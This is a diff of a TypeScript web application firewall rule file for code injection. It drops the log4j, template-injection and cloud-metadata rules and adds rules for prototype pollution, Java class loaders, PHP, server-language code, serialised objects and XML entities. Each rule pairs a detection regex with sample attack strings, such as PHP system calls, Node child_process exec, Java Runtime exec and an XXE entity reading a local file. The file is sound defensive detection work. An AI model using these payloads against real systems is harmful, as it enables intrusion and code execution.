@@ -1,37 +1,32 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: the placeholders are the attack
 import { everywhere, freeText, type WafRule } from "../rule.ts";
 
-/** Signs of other interpreters: loggers, templates, object prototypes, XML, the cloud's own addresses. */
+/** Signs of other interpreters: object prototypes, server languages, serialised objects, XML. */
 export const codeInjectionRules: readonly WafRule[] = [
-  {
-    id: "jndi-lookup",
-    class: "code_injection",
-    severity: "critical",
-    why: "a log4j lookup (CVE-2021-44228), plain or in the nested forms that hide it",
-    targets: everywhere,
-    pattern:
-      /\$\{\s?jndi\s?:|\$\{(?:lower|upper|env|sys|java|date|main|ctx|base64):[^}]{0,60}\}|\$\{::-|\$\{[^{}]{0,40}\$\{[^{}]{0,60}:/,
-    examples: {
-      blocks: [
-        "${jndi:ldap://x.example/a}",
-        "${${lower:j}ndi:rmi://x}",
-        "${${::-j}ndi:dns://x}",
-        "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
-      ],
-      passes: ["Dear ${name}", "Cost: ${price} and ${tax}", "JNDI: an overview"],
-    },
-  },
   {
     id: "prototype-pollution-name",
     class: "code_injection",
     severity: "critical",
     why: "a field that would reach an object's prototype",
     targets: ["body_key", "query_name"],
-    pattern:
-      /(?:^|[.[\]"'])__(?:proto|definegetter|definesetter|lookupgetter)__(?:$|[.[\]"'])|\bconstructor(?:\.|\]?\[["']?)prototype\b/,
+    needs: [],
+    sign: /(?:^|[.[\]"'])__(?:proto|definegetter|definesetter|lookupgetter)__(?:$|[.[\]"'])|\bconstructor(?:\.|\]?\[["']?)prototype\b/,
     examples: {
       blocks: ["__proto__", "__proto__[admin]", "constructor.prototype", "a[constructor][prototype][x]"],
       passes: ["constructor", "prototype", "proto"],
+    },
+  },
+  {
+    id: "class-loader-name",
+    class: "code_injection",
+    severity: "critical",
+    why: "a field that would reach a Java class loader (CVE-2022-22965) or choose a class to make",
+    targets: ["body_key", "query_name"],
+    needs: [".@$#['(=\\:"],
+    sign: /\bclass(?:\.|\[['"]?)(?:module|classloader|protectiondomain)|(?:^|[.[])@(?:type|class)(?:$|\])|(?:^|[.[])\$type(?:$|\])|#_memberaccess|\bredirect:|\baction:|\bmethod:#|\\u0023|^body\.think\b|\binvokefunction|\ballow_url_include|\bauto_prepend_file|\bdisable_functions/,
+    examples: {
+      blocks: ["class.module.classLoader.resources", "@type", "redirect:x"],
+      passes: ["class", "className", "type", "@id"],
     },
   },
   {
@@ -39,61 +34,87 @@ export const codeInjectionRules: readonly WafRule[] = [
     class: "code_injection",
     severity: "critical",
     why: "JSON or code in a string that sets a prototype",
-    targets: ["query_value", "body_value", "cookie"],
-    pattern: /["']__proto__["']\s?[:\]]|\bconstructor\.constructor\s?\(|\.__proto__\.[a-z]{1,40}\s?=/,
+    targets: ["query_value", "body_value", "cookie", "header"],
+    needs: [],
+    sign: /["']__proto__["']\s?[:\]]|\bconstructor\.constructor\s?\(|\b__proto__(?:\.|\[)["']?[a-z]{1,40}["']?\]?\s?=|\bconstructor(?:\.|\[["']?)prototype["']?[.[\]]/,
+    ignoresDocuments: true,
     examples: {
-      blocks: ['{"__proto__":{"admin":true}}', "constructor.constructor('x')"],
+      blocks: ['{"a":"__proto__","__proto__":{"admin":true}', "constructor.constructor('x')", "__proto__[x]=1"],
       passes: ["What is __proto__ in JavaScript?", "constructor of class B"],
     },
   },
   {
-    id: "template-injection",
+    id: "php-code",
     class: "code_injection",
     severity: "critical",
-    why: "a template expression that calculates or reaches for objects",
-    targets: freeText,
-    pattern:
-      /\{\{[^{}]{0,40}(?:\d{1,6}\s?\*\s?'?\d{1,6}|config\.|self\.|request\.|__class__|__globals__|constructor)[^{}]{0,80}\}\}|[$#@]\{\s?\d{1,6}\s?\*\s?\d{1,6}\s?\}|<%=?\s?\d{1,6}\s?\*\s?\d/,
+    why: "PHP source or a call that runs it, where text belongs",
+    targets: [...freeText, "query_name", "file_content"],
+    needs: ["<$(:{"],
+    sign: /<\?php\b|<\?=|<\?\s?(?:echo|system|eval|passthru|@|include|require|phpinfo|print|exec|\$)|\bphpinfo\s?\(\s?-?\d{0,3}\s?\)|(?<![.\w>])(?:passthru|shell_exec|proc_open|popen|pcntl_exec|call_user_func(?:_array)?|create_function|base64_decode|gzinflate|str_rot13|file_get_contents|file_put_contents|move_uploaded_file|fsockopen|show_source|highlight_file|ini_set|register_shutdown_function|preg_replace_callback|array_map|assert|system|exec)\s?\(\s?(?:['"@`]|\$[a-z_{]|\\|base64|chr|hex2bin|gz|str_rot|\d|_get|_post|cat|id|ls|\))[^\n]{0,200}\)?|\$_(?:get|post|request|cookie|server|files|session|env)\s?\[|\$\{@?(?:print|phpinfo|system|eval|exec)|\bo:\d{1,3}:["\\][^"]{1,60}["\\]{1,2}:\d{1,4}:\{|\beval\s?\(\s?(?:\$|base64|gz|stripslashes|get_)|\bprint\s?\(\s?md5\s?\(|\bvar_dump\s?\(\s?(?:md5|\$|\d)|\bdie\s?\(\s?(?:md5|@|\d{3})|\becho\s(?:md5\s?\(|\d{3,12}\s?[;*+]|phpversion)|\bprint\s?\(?\s?`|@(?:eval|assert|ini_set)\s?\(|\ballow_url_include|\bthink\\{1,2}(?:app|request|template)|\bcopy\s?\(\s?['"]https?:|\binclude\s?\(?\s?['"$](?:https?:|\/|_)|\bprint\(\d{1,8}[*+]\d/,
+    ignoresDocuments: true,
     examples: {
-      blocks: ["{{7*7}}", "${7*7}", "{{''.__class__.mro}}", "<%= 7*7 %>"],
-      passes: ["Hello {{name}}", "{{ class }} {{ section }}", "7*7 is 49"],
+      blocks: [
+        "<?php system('id'); ?>",
+        "phpinfo()",
+        "system('cat /etc/x')",
+        "${@print(md5(1))}",
+        'O:8:"stdClass":1:{s:1:"x";i:1;}',
+        "$_GET['x']",
+      ],
+      passes: ["PHP <?> what is it", "The system (new)", "assert (yes) or not", "exec ($ 20)"],
     },
   },
   {
-    id: "server-code",
+    id: "script-server-code",
     class: "code_injection",
     severity: "critical",
-    why: "source of a server's language where text belongs",
-    targets: freeText,
-    pattern:
-      /<\?php\b|<\?=|\brequire\s?\(\s?["'](?:node:)?(?:child_process|fs|vm)["']\s?\)|\bprocess\.(?:mainmodule|binding)\b|\b__import__\s?\(|\bruntime\.getruntime\s?\(|\bclass\.module\.classloader\b/,
+    why: "source of JavaScript, Python, Ruby, Perl or Java that reaches for the machine",
+    targets: [...freeText, "file_content"],
+    needs: ["(.:!{%`$;"],
+    sign: /\brequire\s?\(\s?["'`](?:node:)?(?:child_process|fs|vm|os|net|process)["'`]\s?\)|\bprocess\.(?:mainmodule|binding|kill\()|\bglobal\.process|\b_\$\$nd_func\$\$_|\bchild_process["'`]?\s?[)\]]{0,2}\s?\.(?:exec|spawn|fork)|\bexecsync\s?\(|\bspawnsync\s?\(|\b__import__\s?\(|\b(?:os|posix|nt|commands|subprocess)\.(?:system|popen|exec[a-z]{0,3}|spawn[a-z]{0,3}|getoutput|check_output|call|run|listdir|getcwd|environ)\s?[([]|\b__(?:globals|builtins|subclasses|mro|bases|class|getattribute)__\b|\bimport\s(?:os|subprocess|socket|pty)\s?(?:;|,|\n)|\bcposix\nsystem|\bcos\nsystem|!!(?:python|javax|java|com\.sun|org\.|ruby)|!ruby\/|\bkernel\.(?:exec|system|`)|\bio\.popen\s?\(|%x[({|`[]|\bruntime\.getruntime\s?\(|\bgetruntime\s?\(\)|\bjava\.lang\.(?:runtime|process|class|system|string|thread)|\bprocessbuilder\b|\bjavax\.(?:script|naming|management)\b|\bscriptenginemanager\b|\bclass\.module\.classloader\b|\bcom\.sun\.(?:rowset|org)|\borg\.(?:apache\.commons\.(?:collections|beanutils)|springframework\.[a-z.]{2,60}(?:context|factory)|codehaus\.groovy)|\bysoserial\b|\bognl\.|\b#_memberaccess\b|@java\.|\bclass\.forname\s?\(|\bnew\sjava\.|\bsystem\.diagnostics\.process|\bsystem\.(?:io\.file|reflection|runtime|web\.ui\.losformatter|windows\.data)|\bgroovy\.util|\.execute\s?\(\)\.text|\bopen\s?\(\s?['"][^'"]{1,60}['"]\s?\)\.read|\beval\s?\(\s?(?:compile|__|open|exec)|\bexec\s?\(\s?(?:compile|__|open|"import|'import)|\bres\.(?:end|send|write)\s?\(\s?(?:require|process|global)|\bdeno\.(?:run|readfile)|\bxp\.xjdbc\b/,
+    ignoresDocuments: true,
     examples: {
-      blocks: ["<?php system('id'); ?>", "require('child_process').exec('id')", "__import__('os').system('id')"],
-      passes: ["PHP <?> what is it", "We require (child) consent", "Import __init__"],
+      blocks: [
+        "require('child_process').exec('id')",
+        "__import__('os').system('id')",
+        "java.lang.Runtime.getRuntime().exec('x')",
+        "os.popen('id').read()",
+        "!!javax.script.X",
+        "_$$ND_FUNC$$_function (){}",
+      ],
+      passes: ["We require (child) consent", "Import __init__", "the os. system", "A java.util list"],
+    },
+  },
+  {
+    id: "serialised-object",
+    class: "code_injection",
+    severity: "critical",
+    why: "a serialised object of Java, .NET, Python or Ruby: some readers run what it names",
+    targets: freeText,
+    needs: [],
+    sign: /^(?:ro0abx|ro0abq|aced0005|h4siaaaaaaa|aaeaaad\/{4,5}|gasv.{0,2}aaaaaaa|gan9cq|\/wey|tzo[0-9a-z]{1,3}oi|yto[0-9a-z]{2}zoi|qzo[0-9]{1,2}oi)[a-z0-9+/=_-]{8}/,
+    examples: {
+      blocks: ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "AAEAAAD/////AQAAAAAAAAAMAgAAAA=="],
+      passes: ["rO0m", "AAEAAA", "TzoK"],
     },
   },
   {
     id: "xml-entity",
     class: "code_injection",
     severity: "critical",
-    why: "an XML document type with entities: reads files through a parser",
-    targets: freeText,
-    pattern: /<!entity\s|<!doctype\s[^<>]{1,80}(?:\[|\ssystem\s["'])|<!\[cdata\[/,
+    why: "an XML document type or entity: reads files through a parser",
+    targets: [...everywhere, "file_content"],
+    needs: ["<"],
+    sign: /<!entity\b|<!doctype\s(?!html(?:>|\spublic\s"-\/\/w3c\/\/dtd[^"<>\n]{0,60}"\s?(?:"https?:\/\/www\.w3\.org\/[^"<>]{0,60}")?\s?>|$|\s?\n|\ssystem\s"about:))[^<>]{1,200}(?:\[|>|\ssystem\b|\spublic\b|$)|<!element\s|<!attlist\s|<xi:include\b|xmlns:xi\s?=|<xsl:(?:value-of|stylesheet|template|include|import|variable)\b|<\?xml-stylesheet\b|<!\[cdata\[\s?<\s?(?:script|\/?[a-z]{1,10}\son)|\bxlink:href\s?=\s?["']file:|<!--\[if\b/,
+    ignoresCode: true,
     examples: {
-      blocks: ['<!DOCTYPE x [<!ENTITY y SYSTEM "file:///x">]>', "<!ENTITY % a 'b'>"],
-      passes: ["<!doctype html", "DOCTYPE system explained"],
-    },
-  },
-  {
-    id: "cloud-metadata",
-    class: "code_injection",
-    severity: "critical",
-    why: "the address where a cloud machine reads its own credentials",
-    targets: ["query_value", "body_value", "cookie"],
-    pattern: /\b169\.254\.169\.254\b|\bmetadata\.google\.internal\b|\b0xa9fea9fe\b|\[?fd00:ec2::254\]?/,
-    examples: {
-      blocks: ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/"],
-      passes: ["10.0.0.254", "metadata of Google Drive"],
+      blocks: [
+        '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///x">]>',
+        "<!ENTITY % a 'b'>",
+        '<!DOCTYPE r SYSTEM "http://x.example/a.dtd">',
+        '<xi:include href="x"/>',
+      ],
+      passes: ["<!doctype html>", "DOCTYPE system explained", "<![CDATA[ text ]]>"],
     },
   },
 ];
